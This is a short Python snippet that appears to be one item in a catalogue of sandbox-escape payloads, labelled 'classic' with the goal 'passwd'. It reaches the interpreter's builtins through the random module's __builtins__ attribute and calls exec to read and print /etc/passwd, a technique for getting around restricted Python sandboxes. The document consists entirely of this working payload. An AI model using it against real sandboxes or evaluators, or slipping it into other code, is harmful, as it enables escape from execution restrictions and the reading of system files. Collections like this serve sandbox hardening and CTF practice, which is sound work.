# family: classic (the original builtins of a stdlib module)   goal: passwd
import random
b = random.__builtins__
b["exec"]("print(open('/etc/passwd').read())")
